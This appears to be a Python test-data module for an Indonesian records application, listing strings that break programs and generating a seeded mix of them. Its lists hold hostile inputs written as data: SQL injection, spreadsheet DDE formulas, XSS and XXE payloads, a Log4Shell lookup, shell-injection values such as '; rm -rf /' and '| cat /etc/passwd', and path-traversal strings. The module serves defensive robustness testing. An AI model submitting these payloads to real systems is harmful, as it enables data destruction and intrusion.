"""Injection and Unicode strings: a curated list of what breaks programs, and a seeded mixture of it. Always the same."""

from __future__ import annotations

import random

SQL = (
    "'; DROP TABLE permohonan; --", "' OR '1'='1", "1; DELETE FROM audit", "' UNION SELECT * FROM users --", "admin'--", "\" OR \"\"=\"",
    "'; ATTACH DATABASE '/tmp/x' AS x; --", "%' AND 1=1 --", "_%_", "NIK:*", "nama MATCH 'x'", "NEAR(a b)", '"a" OR "b"', "a*", "-a",
    "^a", "(a",
    "a)", "AND", "OR NOT", "col:val", "{a b}", "'", "''", '"', "`", ";", "--", "/*", "*/", "\\", "?", ":1", "@p", "$p", "x'00'",
)
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.id","klik")', "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "＝1+1",
    "＋1", "－1", "＠A1", '=IMPORTXML("http://x","//a")', "=DDE(\"cmd\";\"/C calc\";\"1\")", "{=1}", "|calc", "%0A=1", "'=1", '"=1',
    ";=1", ",=1",
)
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>tebal</b>", "</para><para>", "&lt;b&gt;", "&amp;", "&#0;", "&#x202e;",
    "<!--", "-->", "]]>", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<font color=red>",
    "<a href='javascript:x'>", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://x/a}", "[x](javascript:y)", "&P&N&\"Arial\"&28",
)
FORMATS = (
    "%s%s%s%n", "%d", "%(nama)s", "%%", "{0}", "{}", "{nama}", "{0.__class__.__mro__}", "{urut:99999999d}", "{!r}", "{", "}", "{{",
    "\\n", "\\x00",
    "\\u202e", "$(id)", "`id`", "; rm -rf /", "| cat /etc/passwd", "&& shutdown", "> /tmp/x", "$HOME", "~", "!!", "*", "#",
)
PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\", "\\\\server\\share", "file:///etc/passwd", "CON",
    "NUL", "PRN.pdf",
    "aux", ".", "..", "...", ".hidden", "a/b", "a\\b", "a:b", "a|b", "a?b", "nama.pdf.exe", "~root", "/dev/null", "%2e%2e%2f",
    "a" * 255, "a" * 256,
)
CONTROLS = (
    "A\x00B", "\x00", "A\x01B", "A\x07B", "A\x08B", "A\x1b[31mB", "A\x7fB", "A\x80B", "A\x85B", "A\x9bB", "\r\n", "A\r\nB", "A\rB",
    "A\nB", "A\tB",
    "\x0b", "\x0c", "A\u2028B", "A\u2029B", "\ufeffA", "A\ufeff", "\ufffe", "\uffff", "A\U0001ffffB", "\ufdd0", "A\ufffdB", "\u0000\u0000",
    "\r\nSet-Cookie: x", "A\u00adB", "A\u180eB", "\ue000", "\U000f0000",
)
DIRECTION = (
    "\u202eMUNAH\u202c", "A\u202aB", "A\u202bB", "A\u2066B\u2069", "A\u2067B", "\u200eA", "\u200fA", "\u061cA", "محمد", "שלום",
    "SITI \u202etxt.exe",
    "ABC אבג 123", "١٢٣٤", "۱۲۳", "A\u200f\u200fB",
)
COMBINING = (
    "e\u0301", "\u00e9", "A" + "\u0300" * 50, "Z\u0351\u036b\u0343\u036a", "\u0301A", "ﬁ", "ß", "İ", "ı", "ǅ", "ŉ", "Å", "Å", "ﷺ", "각",
    "\u1100\u1161",
    "क्षि", "ၾ", "𝔘𝔫𝔦", "Ａ", "ｱ", "①", "½", "™", "NÚÑEZ", "MÜLLER", "ŁUKASZ", "ÇELİK", "O\u02bcBRIEN", "O’BRIEN", "O'BRIEN",
)
INVISIBLE = ("\u200b", "A\u200bB", "A\u200cB", "A\u200dB", "A\u2060B", "\u3000", "\u00a0", "A\u00a0B", " ", "", "   ",
             "\u2003A", "A\u115fB", "\u2800")
EMOJI = ("🪪", "👨‍👩‍👧‍👦", "🇮🇩", "👍🏽", "☪️", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "1️⃣", "😀" * 70, "❤", "™️")
SURROGATES = ("\ud800", "A\ud800B", "\udfff", "\udcff", "A\udc80", "\ud83d", "\ude00\ud83d")
NUMBERS = (
    "0", "-1", "1e309", "NaN", "Infinity", "-0", "00", "0x10", "1_000", "1,000", "1.000", "9" * 400, "٣", "²", "3508050101900001",
    "350805 010190 0001",
    "350805-010190-0001", "081234567890", "+62 812-3456-7890", "0062812", "(0334) 520003", "08", "+1 202 555 0100", "true", "null",
    "None", "undefined",
)
DATES = (
    "31-02-2000", "29-02-2007", "29-02-2008", "00-00-0000", "01-01-0000", "01-13-2000", "32-01-2000", "31-12-9999", "01-01-10000",
    "5 Februari 2008",
    "5 Foo 2008", "2008-02-05", "05022008", "01/01/70", "31-04-1990", "1-1-1", "20-11-2999", "-5-02-2008", "05--02-2008", "٠٥-٠٢-٢٠٠٨",
)
NAMES = (
    "SITI", "SOEKARNO", "M. MUT'ROF", "O'BRIEN", "D'ANGELO", "ST. AMINAH", "MUH. NUR-HIDAYAT", "A", "AB", "X" * 60, "X" * 61,
    "ANAK AGUNG GDE",
    "NI LUH PUTU, S.PD.", "siti aminah", "  SITI  AMINAH  ", "SITI\tAMINAH", "SITI123", "R.A. KARTINI", "-", "'", ".", "'''",
    "J. ‘JUN’ K.", "Ñ",
)
LONG = ("panjang " * 12_500, "x" * 100_000, "\u0301" * 100_000, "=" * 100_000, "😀" * 25_000, "\n" * 100_000,
        "a" * 2000, "a" * 2001, "b" * 200, "b" * 201)

CURATED: tuple[str, ...] = tuple(dict.fromkeys((
    *SQL, *FORMULAS, *MARKUP, *FORMATS, *PATHS, *CONTROLS, *DIRECTION, *COMBINING, *INVISIBLE, *EMOJI, *SURROGATES, *NUMBERS, *DATES,
    *NAMES, *LONG,
)))


def corpus(count: int = 1000, seed: int = 17) -> tuple[str, ...]:
    """The curated strings and mixtures of two or three of them, with an ordinary word now and then; at least ``count``."""
    rng = random.Random(seed)
    short = [s for s in CURATED if len(s) <= 60]
    made = list(CURATED)
    seen = set(made)
    while len(made) < count:
        parts = [rng.choice(short) for _ in range(rng.choice((2, 2, 3)))]
        if rng.random() < 0.5:
            parts.insert(rng.randrange(len(parts) + 1), rng.choice(("SITI AMINAH", "catatan", "Jalan Mawar 3", "0812", " ")))
        text = rng.choice(("", " ", "\n", ", ")).join(parts)
        if text not in seen:
            seen.add(text)
            made.append(text)
    return tuple(made)
